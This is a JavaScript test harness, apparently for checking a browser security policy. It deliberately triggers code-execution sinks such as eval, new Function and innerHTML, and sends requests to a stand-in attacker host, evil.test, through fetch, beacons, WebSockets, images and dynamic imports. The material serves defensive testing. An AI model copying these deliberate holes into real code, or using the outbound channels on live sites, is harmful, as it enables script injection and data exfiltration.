// Own code with the holes that real code has: what an attacker has written reaches a function that runs it.
const WAIT = 2_500;
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const script = (src) => document.body.append(Object.assign(document.createElement('script'), { src }));

const HOLES = {
  eval: () => eval("hit('a:eval')"),
  function: () => new Function("hit('a:function')")(),
  timer: () => setTimeout("hit('a:timer')"),
  blobScript: () => script(blob("hit('a:blob-script')")),
  link: () => document.getElementById('javascript-url').click(),
  import: () => import('https://evil.test/module.js'),
  worker: () => new Worker(blob(`fetch('${location.origin}/hit?a:blob-worker', { method: 'POST' })`)),
  // A picture in the HTML would need no script.
  html: () => {
    document.getElementById('place').innerHTML = '<b id="injected">Your session has ended</b>';
    if (document.getElementById('injected')) hit('a:html');
  },
  fetch: () => fetch('https://evil.test/hit?a:fetch', { mode: 'no-cors' }),
  beacon: () => navigator.sendBeacon('https://evil.test/hit?a:beacon', ''),
  websocket: () => new WebSocket('wss://evil.test/hit?a:websocket'),
  events: () => new EventSource('https://evil.test/hit?a:events'),
  picture: () => { new Image().src = 'https://evil.test/hit?a:picture'; },
  form: () => document.getElementById('form').submit(),
  svg: () => open('/upload.svg'),
  base: () => open('/base.html'),
  prefetch: () => open('/prefetch.html'), // by itself, because browsers do so when there is nothing else to load
};

addEventListener('load', async () => {
  for (const hole of Object.values(HOLES)) try { await Promise.race([hole(), 0]); } catch { /* blocked */ }
  setTimeout(() => hit('done-attacks'), WAIT);
});
addEventListener('unhandledrejection', (event) => event.preventDefault());
